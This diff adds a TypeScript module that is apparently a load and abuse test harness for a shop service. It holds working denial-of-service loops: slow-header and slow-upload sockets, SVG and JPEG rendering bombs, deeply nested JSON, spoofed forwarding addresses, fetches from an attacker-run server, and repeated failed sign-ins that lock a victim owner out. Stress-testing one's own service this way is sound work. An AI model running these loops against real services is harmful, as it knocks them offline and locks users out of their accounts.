@@ -1,0 +1,460 @@
+/** Every way that is known to make the service slow, full or silent, each as a loop that runs until it is told to stop. */
+import { Agent, request as httpRequest } from 'node:http';
+import { connect } from 'node:net';
+import sharp from 'sharp';
+import { WebSocket } from 'ws';
+import { makePng } from '../pictures.ts';
+import { type FuzzRequest, send } from '../requests.ts';
+
+export type Target = {
+  origin: URL;
+  /** Sandbox shops of the attacker's own. */
+  shops: { shopId: string; key: string }[];
+  /** The shop that is to be hurt: its public id and its owner's address are known to anyone. */
+  victim: { shopId: string; email: string };
+  /** A server of the attacker's: `/big`, `/slow`, `/svg`, `/dashes`, `/jpeg`. */
+  lair: string;
+};
+
+export type Attack = { name: string; run(target: Target, signal: AbortSignal): Promise<void> };
+
+const agent = new Agent({ keepAlive: true, maxSockets: 60 });
+const json = { 'content-type': 'application/json' };
+const form = { 'content-type': 'application/x-www-form-urlencoded' };
+
+let counter = 0;
+/** One of a hundred addresses: an attacker has some, not all. */
+const address = (): string => {
+  counter += 1;
+  return `10.66.0.${counter % 100}`;
+};
+
+async function repeat(
+  signal: AbortSignal,
+  lanes: number,
+  pauseMs: number,
+  once: (number: number) => Promise<unknown>,
+): Promise<void> {
+  let number = 0;
+  const lane = async () => {
+    while (!signal.aborted) {
+      number += 1;
+      await once(number).catch(() => undefined);
+      if (pauseMs > 0) await new Promise((resolve) => setTimeout(resolve, pauseMs));
+    }
+  };
+  await Promise.all(Array.from({ length: lanes }, lane));
+}
+
+const asked = (
+  target: Target,
+  method: string,
+  path: string,
+  headers: Record<string, string>,
+  body?: string | Buffer,
+): Promise<unknown> => {
+  const request: FuzzRequest = { name: '', method, path, headers: { 'x-forwarded-for': address(), ...headers } };
+  if (body !== undefined) request.body = body;
+  return send(target.origin, agent, request);
+};
+
+const shopOf = (target: Target, number: number) => target.shops[number % target.shops.length]!;
+const keyOf = (target: Target, number: number) => ({ ...json, 'x-api-key': shopOf(target, number).key });
+const upload = (bytes: Buffer): Buffer => Buffer.from(JSON.stringify({ base64Image: bytes.toString('base64') }));
+const svg = (inside: string) =>
+  Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900">${inside}</svg>`);
+
+const comments = upload(Buffer.from(`${'<!-- -->'.repeat(28)}<x`));
+export const longText = svg(`<text y="50">${'MW'.repeat(5000)}</text>`);
+export const fineDashes = svg(`<path d="M0 0${'L900 900L0 0'.repeat(200)}" stroke="#000" stroke-dasharray="0.02"/>`);
+const textUpload = upload(longText);
+const dashUpload = upload(fineDashes);
+const tailUpload = upload(Buffer.concat([makePng(1, 1), Buffer.alloc(8_000_000)]));
+const manyNames = JSON.stringify({
+  dryRun: true,
+  items: [],
+  ...Object.fromEntries(Array.from({ length: 50_000 }, (_, i) => [`fieldname${i}`, 1])),
+});
+const longFilter = JSON.stringify({ filter: Array.from({ length: 20_000 }, (_, i) => `category = x${i}`) });
+const manySearches = JSON.stringify({
+  queries: Array.from({ length: 200 }, () => ({
+    indexUid: 'products',
+    q: 'shrit hodie mgu blu',
+    facets: ['*'],
+    attributesToHighlight: ['*'],
+  })),
+});
+const buyer =
+  'name=Ada&line1=1+Main+St&city=Austin&state=TX&postalCode=78701&quantity=1&speed=economy&action=pay&number=4000000000000002&expiry=12%2F40&cvc=123';
+
+export const progressiveJpeg: Promise<Buffer> = (async () =>
+  sharp({ create: { width: 9000, height: 8000, channels: 3, background: '#7a3' } })
+    .jpeg({ progressive: true, quality: 70 })
+    .toBuffer())();
+
+const buyPath = (target: Target, asset: string) =>
+  `/buy/POSTER-FRAMED?shop=${target.victim.shopId}&asset=${encodeURIComponent(asset)}`;
+const mockupPath = (target: Target, number: number, asset: string) =>
+  `/mockup/POSTER-FRAMED?shop=${shopOf(target, number).shopId}&asset=${encodeURIComponent(asset)}&width=200`;
+
+/** Sockets that are opened and then hold on, saying little or nothing. */
+async function hold(
+  target: Target,
+  signal: AbortSignal,
+  count: number,
+  head: string,
+  drip: string,
+  everyMs: number,
+): Promise<void> {
+  const open = Array.from({ length: count }, () => {
+    const socket = connect(Number(target.origin.port), '127.0.0.1');
+    socket.on('error', () => {});
+    socket.on('connect', () => socket.write(head));
+    socket.on('data', () => {});
+    return socket;
+  });
+  const timer = setInterval(() => {
+    for (const socket of open) if (socket.writable) socket.write(drip);
+  }, everyMs);
+  await new Promise<void>((resolve) => signal.addEventListener('abort', () => resolve(), { once: true }));
+  clearInterval(timer);
+  for (const socket of open) socket.destroy();
+}
+
+export const attacks: readonly Attack[] = [
+  {
+    name: 'upgrade of //[',
+    run: (target, signal) =>
+      repeat(
+        signal,
+        2,
+        200,
+        () =>
+          new Promise((resolve) => {
+            const socket = connect(Number(target.origin.port), '127.0.0.1');
+            socket.on('error', resolve);
+            socket.on('close', resolve);
+            socket.end(`GET //[ HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`);
+          }),
+      ),
+  },
+  {
+    name: 'svg comments',
+    run: (target, signal) =>
+      repeat(signal, 3, 50, (n) => asked(target, 'POST', '/v1/uploads/base64', keyOf(target, n), comments)),
+  },
+  {
+    name: 'svg text',
+    run: (target, signal) =>
+      repeat(signal, 6, 20, (n) => asked(target, 'POST', '/v1/uploads/base64', keyOf(target, n), textUpload)),
+  },
+  {
+    name: 'svg dashes',
+    run: (target, signal) =>
+      repeat(signal, 6, 20, (n) => asked(target, 'POST', '/v1/uploads/base64', keyOf(target, n), dashUpload)),
+  },
+  {
+    name: 'svg as artwork',
+    run: (target, signal) =>
+      repeat(signal, 6, 20, (n) =>
+        asked(target, 'GET', mockupPath(target, n, `${target.lair}/${n % 2 ? 'svg' : 'dashes'}?${n}`), {}),
+      ),
+  },
+  {
+    name: 'buy form: e-mail',
+    run: (target, signal) =>
+      repeat(signal, 4, 50, () =>
+        asked(target, 'POST', buyPath(target, ''), form, `${buyer}&country=US&email=${'%40.'.repeat(1500)}`),
+      ),
+  },
+  {
+    name: 'buy form: recipients',
+    run: (target, signal) =>
+      repeat(signal, 2, 50, () =>
+        asked(
+          target,
+          'POST',
+          buyPath(target, ''),
+          form,
+          `${buyer}&country=US&email=${'a%40example.com,'.repeat(1000)}b%40example.com`,
+        ),
+      ),
+  },
+  {
+    name: 'buy form: large artwork',
+    run: (target, signal) =>
+      repeat(signal, 8, 20, (n) =>
+        asked(
+          target,
+          'POST',
+          buyPath(target, `${target.lair}/big?${n}`),
+          form,
+          `${buyer}&country=US&email=a%40example.com`,
+        ),
+      ),
+  },
+  {
+    name: 'buy form: country',
+    run: (target, signal) =>
+      repeat(signal, 2, 30, () =>
+        asked(target, 'POST', buyPath(target, ''), form, `${buyer}&country=!!&email=a%40example.com`),
+      ),
+  },
+  {
+    name: 'chat: spaces',
+    run: (target, signal) =>
+      repeat(signal, 4, 50, (n) =>
+        asked(
+          target,
+          'POST',
+          '/v1/ai-generations/chat/start',
+          keyOf(target, n),
+          JSON.stringify({ messages: [{ role: 'user', content: `a${' '.repeat(7000)}b` }] }),
+        ),
+      ),
+  },
+  {
+    name: 'chat: backlog of one key',
+    run: (target, signal) =>
+      repeat(signal, 4, 30, (n) =>
+        asked(
+          target,
+          'POST',
+          '/v1/ai-generations/chat/start',
+          keyOf(target, 0),
+          JSON.stringify({ messages: [{ role: 'user', content: `make 4 designs of a fox number ${n} on a mug` }] }),
+        ),
+      ),
+  },
+  {
+    name: 'chat: backlog of many keys',
+    run: (target, signal) =>
+      repeat(signal, 4, 30, (n) =>
+        asked(
+          target,
+          'POST',
+          '/v1/ai-generations/chat/start',
+          keyOf(target, n),
+          JSON.stringify({ messages: [{ role: 'user', content: `make 4 designs of a fox number ${n} on a mug` }] }),
+        ),
+      ),
+  },
+  {
+    name: 'order: unknown names',
+    run: (target, signal) =>
+      repeat(signal, 3, 50, (n) => asked(target, 'POST', '/v1/orders', keyOf(target, n), manyNames)),
+  },
+  {
+    name: 'search: long filter',
+    run: (target, signal) =>
+      repeat(signal, 3, 30, () =>
+        asked(
+          target,
+          'POST',
+          '/search/indexes/products/search',
+          { ...json, authorization: 'Bearer pk_public_catalog' },
+          longFilter,
+        ),
+      ),
+  },
+  {
+    name: 'search: many at once',
+    run: (target, signal) =>
+      repeat(signal, 3, 30, () =>
+        asked(
+          target,
+          'POST',
+          '/search/multi-search',
+          { ...json, authorization: 'Bearer pk_public_catalog' },
+          manySearches,
+        ),
+      ),
+  },
+  {
+    name: 'sign-ins',
+    run: (target, signal) =>
+      repeat(signal, 40, 10, (n) =>
+        asked(
+          target,
+          'POST',
+          '/api/auth/sign-in/email',
+          json,
+          JSON.stringify({ email: `nobody${n}@example.com`, password: 'wrong passphrase' }),
+        ),
+      ),
+  },
+  {
+    name: 'lock the owner out',
+    run: (target, signal) =>
+      repeat(signal, 4, 50, () =>
+        asked(
+          target,
+          'POST',
+          '/api/auth/sign-in/email',
+          json,
+          JSON.stringify({ email: target.victim.email, password: 'wrong passphrase' }),
+        ),
+      ),
+  },
+  {
+    name: 'progressive jpegs',
+    run: async (target, signal) => {
+      const body = upload(await progressiveJpeg);
+      await repeat(signal, 8, 20, (n) => asked(target, 'POST', '/v1/uploads/base64', keyOf(target, n), body));
+    },
+  },
+  {
+    name: 'jpegs as artwork',
+    run: (target, signal) =>
+      repeat(signal, 6, 20, (n) => asked(target, 'GET', mockupPath(target, n, `${target.lair}/jpeg?${n}`), {})),
+  },
+  {
+    name: 'png with a tail',
+    run: (target, signal) =>
+      repeat(signal, 2, 100, (n) => asked(target, 'POST', '/v1/uploads/base64', keyOf(target, n), tailUpload)),
+  },
+  {
+    name: 'slow uploads',
+    run: (target, signal) =>
+      hold(
+        target,
+        signal,
+        24,
+        `POST /v1/uploads/base64 HTTP/1.1\r\nHost: x\r\nx-api-key: ${target.shops[0]!.key}\r\nContent-Type: application/json\r\nContent-Length: 50000000\r\n\r\n{"base64Image":"`,
+        'AAAA'.repeat(50),
+        500,
+      ),
+  },
+  {
+    name: 'slow heads',
+    run: (target, signal) => hold(target, signal, 200, 'GET / HTTP/1.1\r\nHost: x\r\n', 'X-A: b\r\n', 2000),
+  },
+  {
+    name: 'idle connections',
+    run: (target, signal) => hold(target, signal, 400, 'GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n', '', 5000),
+  },
+  {
+    name: 'slow artwork',
+    run: (target, signal) =>
+      repeat(signal, 40, 10, (n) => asked(target, 'GET', mockupPath(target, n, `${target.lair}/slow?${n}`), {})),
+  },
+  {
+    name: 'mockup misses',
+    run: (target, signal) =>
+      repeat(signal, 12, 0, (n) =>
+        asked(
+          target,
+          'GET',
+          `/mockup/HOODIE-PULLOVER?shop=${shopOf(target, n).shopId}&width=2000&bg=${(n % 0xffffff).toString(16).padStart(6, '0')}`,
+          { 'x-forwarded-for': `10.66.1.${n % 4}` },
+        ),
+      ),
+  },
+  {
+    name: 'clients that leave',
+    run: (target, signal) =>
+      repeat(
+        signal,
+        6,
+        20,
+        (n) =>
+          new Promise<void>((resolve) => {
+            const path = `/mockup/TEE-UNISEX?shop=${shopOf(target, n).shopId}&width=1400&bg=${(n % 0xffffff).toString(16).padStart(6, '0')}`;
+            const leaving = httpRequest({
+              host: '127.0.0.1',
+              port: target.origin.port,
+              path,
+              headers: { 'x-forwarded-for': address() },
+            });
+            leaving.on('error', () => resolve());
+            leaving.on('response', () => {
+              leaving.destroy();
+              resolve();
+            });
+            leaving.end();
+            setTimeout(
+              () => {
+                leaving.destroy();
+                resolve();
+              },
+              5 + (n % 40),
+            );
+          }),
+      ),
+  },
+  {
+    name: 'painting',
+    run: (target, signal) =>
+      repeat(signal, 8, 20, (n) =>
+        asked(
+          target,
+          'POST',
+          '/v1/ai-generations/generate',
+          keyOf(target, n),
+          JSON.stringify({ prompt: `a fox number ${n}`, numberResults: 8, width: 2048, height: 2048 }),
+        ),
+      ),
+  },
+  {
+    name: 'idempotency keys',
+    run: (target, signal) =>
+      repeat(signal, 6, 10, (n) =>
+        asked(
+          target,
+          'POST',
+          '/v1/ai-generations/generate',
+          { ...keyOf(target, n), 'idempotency-key': `k${counter}-${n}` },
+          '{"prompt":""}',
+        ),
+      ),
+  },
+  {
+    name: 'mints',
+    run: (target, signal) => repeat(signal, 4, 20, () => asked(target, 'POST', '/v1/shops/sandbox', json, '{}')),
+  },
+  {
+    name: 'large JSON',
+    run: (target, signal) =>
+      repeat(signal, 4, 30, (n) =>
+        asked(target, 'POST', '/v1/orders', keyOf(target, n), `{"items":${'['.repeat(400_000)}`),
+      ),
+  },
+  {
+    name: 'live renders',
+    run: (target, signal) =>
+      repeat(signal, 6, 100, async (n) => {
+        const { shopId } = shopOf(target, n);
+        const answer = (await asked(target, 'POST', '/v1/realtime/grant', json, JSON.stringify({ shop: shopId }))) as {
+          text: string;
+        };
+        const { token } = JSON.parse(answer.text);
+        const socket = new WebSocket(`ws://127.0.0.1:${target.origin.port}/realtime?token=${token}`);
+        const layer = { id: 'a', type: 'text', text: 'mW '.repeat(600), x: 0, y: 0, fontSize: 20, width: 600 };
+        socket.on('error', () => {});
+        socket.on('open', () => {
+          for (let i = 0; i < 30; i += 1)
+            socket.send(
+              JSON.stringify({
+                type: 'render',
+                id: i,
+                product: 'MUG-11OZ',
+                placement: 'Front',
+                width: 2000,
+                canvas: { version: 2, width: 1063, height: 992, layers: [{ ...layer, x: i }] },
+              }),
+            );
+        });
+        await new Promise((resolve) => setTimeout(resolve, 3000));
+        socket.terminate();
+      }),
+  },
+  {
+    name: 'range requests',
+    run: (target, signal) =>
+      repeat(signal, 6, 10, () => asked(target, 'GET', '/', { range: `bytes=${'0-0,'.repeat(800)}0-0` })),
+  },
+  {
+    name: 'the API document',
+    run: (target, signal) => repeat(signal, 6, 20, () => asked(target, 'GET', '/v1/openapi.json', {})),
+  },
+];
